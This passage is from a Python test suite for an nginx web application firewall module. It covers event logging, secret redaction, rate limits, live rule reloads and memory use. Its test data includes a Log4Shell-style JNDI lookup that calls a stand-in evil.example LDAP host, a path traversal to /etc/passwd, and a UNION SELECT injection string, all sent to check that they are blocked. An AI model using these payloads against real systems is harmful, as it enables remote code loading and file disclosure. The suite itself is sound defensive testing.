        event = self.events()[-1]
        self.assertRegex(event.pop("@timestamp"), r"^20\d\d-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")
        self.assertRegex(event["event"]["id"], "^[0-9A-HJKMNP-TV-Z]{26}$")
        self.assertIn(event["event"].pop("id").encode(), answer.body)
        hikeshi = event.pop("hikeshi")
        self.assertEqual(event, {"event": {"kind": "alert", "category": ["intrusion_detection"], "action": "blocked"},
                                 "client": {"address": "203.0.113.7"}, "url": {"domain": "shop.example.jp", "path": "/a/b"},
                                 "http": {"request": {"method": "GET"}}, "rule": {"name": "lookup"}})
        self.assertEqual((hikeshi["field"], hikeshi["verdict"], hikeshi["key"], hikeshi["text"], hikeshi["dropped"]),
                         ("header:user-agent", "reaches", "ldap://203.0.113.9:1389/a", "x " + BAD, 0))
        line = self.syslog.recv(65536).decode()
        self.assertRegex(line, r"^<190>\w{3} [ \d]\d \d\d:\d\d:\d\d edge: \{")
        self.assertEqual(json.loads(line.split(" edge: ", 1)[1]), self.events()[-1])

    def test_secrets(self):
        secret = "hunter2-in-the-clear "
        for i, how in enumerate(({"Authorization": "Bearer " + secret + BAD}, {"Cookie": "sid=" + secret + BAD},
                                 {"Proxy-Authorization": secret + BAD}, {"X-Api-Key": secret + BAD})):
            self.is_blocked(self.bad("198.51.100.%d" % i, **how))
            self.assertEqual(self.events()[-1]["hikeshi"]["key"], "ldap://203.0.113.9:1389/a")
        self.is_blocked(self.bad("198.51.100.9", "/?token=hunter2-in-the-clear" + urllib.parse.quote(BAD), A="b"))
        # a lookup that is not closed takes in what follows; a cookie without a name is a value
        open_one = BAD.rstrip("}")
        basic = base64.b64encode(to_bytes("u" + open_one + ":hunter2")).decode()
        for i, how in enumerate(({"Cookie": "a=" + open_one + "; sid=hunter2"}, {"Authorization": "Basic " + basic},
                                 {"X-Api-Key": open_one + " hunter2"}, {"Cookie": "hunter2" + BAD},
                                 {"Cookie": "; ".join("a%d=${x}" % i for i in range(40)) + "; b=" + open_one + ";c=hunter2"})):
            self.is_blocked(self.bad("198.51.100.%d" % (20 + i), **how))
        self.assertNotIn("hunter2", self.edge.read("events.json"))
        self.is_blocked(self.bad("198.51.100.10", "/?other=hunter2-told" + urllib.parse.quote(BAD), A="b"))
        self.assertIn("hunter2-told", self.edge.read("events.json"))

    def test_hostile_bytes_stay_in_their_line(self):
        for i, value in enumerate((b"\x1b[31m\xff\xfe" + to_bytes(BAD), b'"}\\' + to_bytes(BAD), b"\xe2\x80\xae" + to_bytes(BAD),
                                   b"x" * 7000 + to_bytes(BAD))):
            n = len(self.events())
            self.bad("198.51.101.%d" % i, **{"X-A": value})
            self.assertEqual(len(self.events()), n + 1)  # each line is JSON
        self.assertNotIn("\x1b", self.edge.read("events.json"))
        self.assertLess(max(map(len, self.edge.read("events.json").splitlines())), 8192)

    def test_the_rate_of_a_client(self):
        def of(client):
            return [x["hikeshi"]["dropped"] for x in self.events() if x["client"]["address"] == client]
        dropped, began = self.edge.metric("hikeshi_events_dropped_total", zone=""), time.monotonic()
        for _ in range(12):
            self.is_blocked(self.bad("192.0.2.1"))
        self.is_blocked(self.bad("192.0.2.2"))
        self.assertEqual((len(of("192.0.2.2")), of("192.0.2.2")), (1, [0]))
        before = of("192.0.2.1")
        self.assertGreaterEqual(len(before), 5)
        self.assertLessEqual(len(before), 5 + int(time.monotonic() - began + 0.01))  # one more a second, and it tells what was lost
        time.sleep(1.1)
        self.bad("192.0.2.1")
        self.assertEqual((len(of("192.0.2.1")), sum(of("192.0.2.1"))), (len(before) + 1, 12 - len(before)))
        self.assertEqual(self.edge.metric("hikeshi_events_dropped_total", zone="") - dropped, 12 - len(before))

    def test_logs_are_opened_again(self):
        self.bad("192.0.2.77")
        os.rename(self.edge.path("events.json"), self.edge.path("events.json.1"))
        self.bad("192.0.2.78")
        self.assertIn("192.0.2.78", self.edge.read("events.json.1"))
        self.edge.send_signal(signal.SIGUSR1)
        self.assertTrue(wait_for(lambda: os.path.exists(self.edge.path("events.json"))))
        wait_for(lambda: self.bad("192.0.2.79") and "192.0.2.79" in self.edge.read("events.json"), step=0.1)
        self.assertIn("192.0.2.79", self.edge.read("events.json"))
        self.assertIn("192.0.2.77", self.edge.read("events.json.1"))

    def test_a_log_that_fails_blocks_all_the_same(self):
        edge = Nginx("hikeshi block; hikeshi_events /dev/full; server { listen 127.0.0.1:PORT; location / { return 200 x; }"
                     " location = /metrics { hikeshi off; hikeshi_metrics; } }", env=PRELOAD)
        self.addCleanup(edge.stop)
        edge.start()
        for _ in range(3):
            self.assertEqual(ask(edge.port, "/", headers={"X-A": BAD}).status, 403)
        self.assertEqual(edge.metric("hikeshi_events_dropped_total", zone=""), 3)
        self.assertEqual(edge.read("error.log").count("events are being lost"), 1)


# --- rules that change, workers that come and go

class Load:
    """Clients that ask without a pause, each over and over on connections it keeps, until stopped."""

    def __init__(self, port, clients=4, path="/up", new_connections=False):
        self.port, self.path, self.new = port, path, new_connections
        self.statuses, self.failures, self.on = collections.Counter(), [], True
        self.threads = [threading.Thread(target=self.run, args=(i,)) for i in range(clients)]
        for t in self.threads:
            t.start()

    def run(self, i):
        talk = Talk(self.port)
        n = 0
        while self.on:
            n += 1
            how = ({}, {"headers": {"X-A": "nothing"}}, form("a=1&b=2"), {"body": b"x" * 3000})[n % 4]
            try:
                self.statuses[talk.ask(self.path, **how).status] += 1
            except (OSError, EOFError) as e:
                self.failures.append(repr(e))
            if self.new:
                talk.close()
        talk.close()

    def answered(self, more):
        """Waits until so many more have their answer."""
        n = self.statuses[200]
        return wait_for(lambda: self.statuses[200] >= n + more)

    def stop(self):
        self.on = False
        for t in self.threads:
            t.join()


class Changes(Case):
    WORKERS = 2
    FILES = {"rules": rules(version=1)}
    HTTP = """hikeshi report; hikeshi_rules DIR/rules; hikeshi_events DIR/events.json; hikeshi_event_rate off;
        keepalive_requests 1000000; proxy_http_version 1.1; upstream app { server 127.0.0.1:UPSTREAM; keepalive 8; }
        server { listen 127.0.0.1:PORT reuseport; location / { proxy_pass http://app; proxy_set_header Connection ""; }
            location /static { return 200 x; } location = /metrics { hikeshi off; hikeshi_metrics; } }"""
    version = 1

    def give(self, *lines):
        type(self).version += 1
        self.edge.write("rules", rules(*lines, version=self.version))

    def both_workers(self, what):
        """True when new connections, which the kernel spreads over the workers, all say so."""
        return all(what() for _ in range(16))

    def block_static(self):
        return ask(self.edge.port, "/static", headers={"X-A": BAD}).status == 403

    def test_within_a_second_and_without_a_loss(self):
        load = Load(self.edge.port)
        try:
            self.assertTrue(load.answered(20))
            slowest = 0
            for i in range(6):
                mode = ("block", "report")[i % 2]
                self.give("site * " + mode, *["deny client 192.0.2.%d" % k for k in range(1, 200)],
                          *['signature S-%d "never%dmatches[0-9]+x"' % (k, k) for k in range(20)])
                t0 = time.monotonic()
                self.assertTrue(wait_for(lambda: self.both_workers(self.block_static) if mode == "block"
                                         else self.both_workers(lambda: not self.block_static()), 10, 0.02))
                slowest = max(slowest, time.monotonic() - t0)
            load.answered(201 - load.statuses[200])
        finally:
            load.stop()
        self.assertEqual((load.failures[:3], set(load.statuses)), ([], {200}))
        self.assertGreater(load.statuses[200], 200)
        self.assertLess(slowest, 10 if SANITIZED else 2)  # 1 s by itself; this machine has other work besides
        self.assertTrue(wait_for(lambda: "rules version %d" % self.version in self.edge.read("error.log")))
        self.assertTrue(wait_for(lambda: 'version="%d"' % self.version in ask(self.edge.port, "/metrics").body.decode()))

    def test_a_bad_file_is_refused(self):
        self.give("site * block")
        self.assertTrue(wait_for(lambda: self.both_workers(self.block_static)))
        refused = self.edge.metric("hikeshi_rules_refused_total")
        n = self.edge.read("error.log").count(" refused: ")
        self.edge.write("rules", rules("site * report", "nonsense here", version=self.version + 1))
        self.assertTrue(wait_for(lambda: self.edge.read("error.log").count(" refused: ") > n))
        time.sleep(0.8)
        said = [x for x in self.edge.read("error.log").splitlines() if " refused: " in x][n:]
        self.assertEqual(len(said), 1)  # once, however many workers and ticks
        self.assertRegex(said[0], r"rules refused: .*: line 4: .*; version %d stays" % self.version)
        self.assertEqual(self.edge.metric("hikeshi_rules_refused_total"), refused + 1)
        self.assertTrue(self.both_workers(self.block_static))
        # cut off in the middle, as a copy in progress would be; and gone
        self.edge.write("rules", rules("site * report", version=self.version + 1)[:-20])
        self.assertTrue(wait_for(lambda: self.edge.metric("hikeshi_rules_refused_total") == refused + 2))
        os.unlink(self.edge.path("rules"))
        self.assertTrue(wait_for(lambda: " are gone, version %d stays" % self.version in self.edge.read("error.log")))
        self.assertTrue(self.both_workers(self.block_static))
        self.give("site * report")
        self.assertTrue(wait_for(lambda: self.both_workers(lambda: not self.block_static())))

    def test_a_request_keeps_the_rules_it_began_with(self):
        self.give("site * block", 'patch OLD-1 method=POST path=/up pattern="forbidden-word"')
        self.assertTrue(wait_for(lambda: self.both_workers(
            lambda: ask(self.edge.port, "/up", body="a forbidden-word here").status == 403)))
        with Client(self.edge.port) as c:
            body = b"x" * 30000 + b" forbidden-word " + b"y" * 1000
            c.send(request("/up", headers={"Expect": "100-continue"}, body=body)[:-len(body)])
            self.assertEqual(c.answer().status, 100)  # it has begun
            c.send(body[:20000])
            self.give("site * block")
            self.assertTrue(wait_for(lambda: self.both_workers(
                lambda: ask(self.edge.port, "/up", body="a forbidden-word here").status == 200)))
            c.send(body[20000:])
            self.assertEqual(c.answer().status, 403)
        self.assertEqual(self.events()[-1]["rule"], {"name": "OLD-1", "version": str(self.version - 1)})

    def test_rules_decide(self):
        self.give("site * report", "site shop.example block", "deny client 127.0.0.2", "allow client 127.0.0.3",
                  "deny callback *.evil.example", 'signature SIG-1 "\\.\\./\\.\\./"', "except arg:template path=/static/editor",
                  'patch ORDER-7 method=POST path=/up field=json:/note pattern="(?i)union\\s+select"')
        q = urllib.parse.quote(BAD)
        self.assertTrue(wait_for(lambda: self.both_workers(
            lambda: not self.block_static() and
            ask(self.edge.port, "/static", host="shop.example", headers={"X-A": BAD}).status == 403)))
        for how, status, want in (
                ({"path": "/static", "headers": {"X-A": BAD}}, 200, ("reported", "lookup", "lookup")),
                ({"path": "/static", "host": "shop.example", "headers": {"X-A": BAD}}, 403, ("blocked", "lookup", "lookup")),
                ({"path": "/static?q=../../../etc/passwd", "host": "shop.example"}, 403, ("blocked", "signature", "SIG-1")),
                ({"path": "/up", "host": "shop.example", "headers": {"Content-Type": "application/json"},
                  "body": '{"note": "1 UNION  SELECT 2"}'}, 403, ("blocked", "patch", "ORDER-7")),
                ({"path": "/up", "host": "shop.example", "headers": {"Content-Type": "application/json"},
                  "body": '{"other": "1 UNION  SELECT 2"}'}, 200, None),
                ({"path": "/static", "host": "shop.example", "headers": {"X-A": "${jndi:ldap://a.evil.example/x}"}}, 403,
                 ("blocked", "callback", None)),
                ({"path": "/static/editor?template=" + q, "host": "shop.example"}, 200, None),
                ({"path": "/static/other?template=" + q, "host": "shop.example"}, 403, ("blocked", "lookup", "lookup"))):
            n = len(self.events())
            self.assertEqual(self.ask(**how).status, status, how)
            events = self.events()[n:]
            if want is None:
                self.assertEqual(events, [], how)
                continue
            self.assertEqual(len(events), 1, how)
            self.assertEqual((events[0]["event"]["action"], events[0]["hikeshi"]["why"]), want[:2], how)
            if want[2]:
                self.assertEqual(events[0]["rule"], {"name": want[2], "version": str(self.version)})
        for source, status in (("127.0.0.2", 403), ("127.0.0.3", 200)):
            s = socket.socket()
            s.bind((source, 0))
            s.connect(("127.0.0.1", self.edge.port))
            c = Client.__new__(Client)
            c.s, c.buffer = s, b""
            with c:
                c.send(request("/static", host="shop.example", headers={"X-A": BAD if status == 200 else "nothing"}))
                self.assertEqual(c.answer().status, status, source)


class Workers(Case):
    WORKERS = 2
    FILES = {"rules": rules(version=1)}
    HTTP = Changes.HTTP.replace(" reuseport", "")

    def test_reloads_under_load_lose_nothing(self):
        load = Load(self.edge.port, new_connections=True)
        try:
            for i in range(4):
                self.edge.write("rules", rules("site * report", version=10 + i))
                self.assertTrue(self.edge.reload())
                self.assertTrue(load.answered(26))
        finally:
            load.stop()
        self.assertEqual((load.failures[:3], set(load.statuses)), ([], {200}))
        self.assertGreater(load.statuses[200], 100)

    def test_a_worker_that_dies_is_replaced_and_has_the_new_rules(self):
        self.edge.write("rules", rules("site * block", version=50))
        self.assertTrue(wait_for(lambda: all(ask(self.edge.port, "/static", headers={"X-A": BAD}).status == 403 for _ in range(20))))
        examined = self.edge.metric("hikeshi_requests_examined_total", zone="")
        load = Load(self.edge.port, clients=2)
        try:
            self.assertTrue(load.answered(20))
            for pid in self.edge.worker_pids():
                os.kill(pid, signal.SIGKILL)
                self.assertTrue(wait_for(lambda: pid not in self.edge.worker_pids() and len(self.edge.worker_pids()) == 2))
                for _ in range(10):  # not one with the rules of the start
                    self.assertEqual(ask(self.edge.port, "/static", headers={"X-A": BAD}).status, 403)
        finally:
            load.stop()
        self.assertEqual(set(load.statuses), {200})
        self.assertLessEqual(len(load.failures), 4)  # what the dead ones had in hand
        self.assertGreater(self.edge.metric("hikeshi_requests_examined_total", zone=""), examined)

    @classmethod
    def tearDownClass(cls):
        cls.edge.stop()
        cls.upstream.stop()
        alarms = [x for x in cls.edge.alarms if "exited on signal 9" not in x]
        if alarms:
            raise AssertionError("nginx says: " + "\n".join(alarms))


# --- memory

COUNTER = r"""
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
static unsigned long calls;
void *__libc_malloc(size_t); void *__libc_calloc(size_t, size_t); void *__libc_realloc(void *, size_t);
void *__libc_memalign(size_t, size_t);
void *malloc(size_t n) { calls++; return __libc_malloc(n); }
void *calloc(size_t a, size_t b) { calls++; return __libc_calloc(a, b); }
void *realloc(void *p, size_t n) { calls++; return __libc_realloc(p, n); }
int posix_memalign(void **p, size_t a, size_t n) { calls++; *p = __libc_memalign(a, n); return *p ? 0 : 12; }
static char file[200]; /* nginx empties its environment */
static void tell(int sig) { (void)sig; char b[32]; int n = snprintf(b, sizeof b, "%lu\n", calls);
    int f = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0600); if (write(f, b, (size_t)n) != n) abort(); close(f); }
__attribute__((constructor)) static void begin(void) { snprintf(file, sizeof file, "%s", getenv("COUNT_FILE")); signal(SIGRTMIN, tell); }
"""


class Interrupted(unittest.TestCase):
    """No nginx outlives the tests that began it, however they end."""
    TESTS = """import os, signal, time
from edge import Nginx
signal.signal(signal.SIGINT, signal.default_int_handler)  # what runs in the background inherits that it is ignored
edge = Nginx("server { listen 127.0.0.1:PORT; }", guard=False).start()
print(edge.pid(), *edge.worker_pids(), edge.dir, flush=True)
time.sleep(60)
"""

    def test_servers_end(self):
        for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
            tests = subprocess.Popen([sys.executable, "-B", "-c", self.TESTS], cwd=HERE, stdout=subprocess.PIPE,
                                     stderr=subprocess.DEVNULL, text=True)
            *pids, folder = tests.stdout.readline().split()
            self.addCleanup(shutil.rmtree, folder, True)
            tests.send_signal(sig)
            tests.communicate(timeout=30)
            self.assertEqual(len(pids), 2)
            self.assertTrue(wait_for(lambda: not any(os.path.exists("/proc/" + x) for x in pids)), sig)
            if sig != signal.SIGKILL:
                self.assertFalse(os.path.exists(folder), sig)


@unittest.skipIf(SANITIZED, "a sanitizer's allocator is counted otherwise")
class Allocations(unittest.TestCase):
    """A clean request takes no more of the heap with the guard than without it."""
    HTTP = """%s client_body_buffer_size 16k; keepalive_requests 1000000;
        server { listen 127.0.0.1:PORT; location / { } location /up { proxy_pass http://127.0.0.1:UPSTREAM; } }"""
    BROWSER = [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0"),
               ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
               ("Accept-Language", "ja,en-US;q=0.7,en;q=0.3"), ("Accept-Encoding", "gzip, deflate, br"),
               ("Cookie", "sid=0123456789abcdef0123456789abcdef; theme=dark"), ("Referer", "https://shop.example.jp/"),
               ("Sec-Fetch-Dest", "document"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-Site", "same-origin")]

    def count(self, guard, requests):
        tmp = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, tmp)
        with open(os.path.join(tmp, "c.c"), "w", encoding="ascii") as f:
            f.write(COUNTER)
        subprocess.run(["gcc", "-O1", "-shared", "-fPIC", "-o", tmp + "/c.so", tmp + "/c.c"], check=True)
        upstream = Upstream()
        self.addCleanup(upstream.stop)
        http = self.HTTP.replace("UPSTREAM", str(upstream.port)) % (
            "hikeshi block; hikeshi_rules DIR/rules;" if guard else "")
        edge = Nginx(http, guard=guard, main="master_process off;", files={"html/1k.txt": "x" * 1024, "rules": rules("site * block")},
                     env={"LD_PRELOAD": tmp + "/c.so", "COUNT_FILE": tmp + "/count"})
        self.addCleanup(edge.stop)
        edge.start()

        def calls():
            if os.path.exists(tmp + "/count"):
                os.unlink(tmp + "/count")
            os.kill(edge.pid(), signal.SIGRTMIN)
            return int(wait_for(lambda: edge.read(tmp + "/count")))

        counts = {}
        for name, data in requests.items():
            with Client(edge.port) as c:
                for _ in range(20):
                    c.send(data)
                    c.answer()
                before = calls()
                for _ in range(200):
                    c.send(data)
                    self.assertEqual(c.answer().status, 200)
                counts[name] = calls() - before
        return counts

    def test_none_for_a_clean_request(self):
        requests = {"GET": request("/1k.txt", headers=self.BROWSER), "GET with a query": request("/1k.txt?a=b&c=%20d", headers=self.BROWSER),
                    "form": request("/up", headers=self.BROWSER, body="a=1&b=" + "x" * 500),
                    "10 KiB form": request("/up", headers=[*self.BROWSER, ("Content-Type", "application/x-www-form-urlencoded")],
                                           body="a=1&b=" + "x" * 10000),
                    "10 KiB JSON": request("/up", headers=[*self.BROWSER, ("Content-Type", "application/json")],
                                           body=json.dumps({"a": ["text %d" % i for i in range(900)]}))}
        alone, guarded = self.count(False, requests), self.count(True, requests)
        # nginx itself takes one more or less where a body comes in other pieces; one a request would be hundreds
        for kind in alone:
            self.assertLessEqual(abs(guarded[kind] - alone[kind]), 5, (kind, guarded, alone))


class Leaks(unittest.TestCase):
    """Requests of all kinds leave nothing behind; tests/bench/guard_leaks.py sends 100,000 of them."""

    def test_memory_stays(self):
        sys.path.insert(0, os.path.join(HERE, "../bench"))
        import guard_leaks
        report = guard_leaks.run(requests=int(os.environ.get("GUARD_LEAK_REQUESTS", "5000")))
        self.assertEqual((report["wrong"], report["alarms"], report["leaks"]), ({}, [], []))
        if not SANITIZED:
            self.assertLess(report["grown_kib"], 1024, report)


if __name__ == "__main__":
    unittest.main()
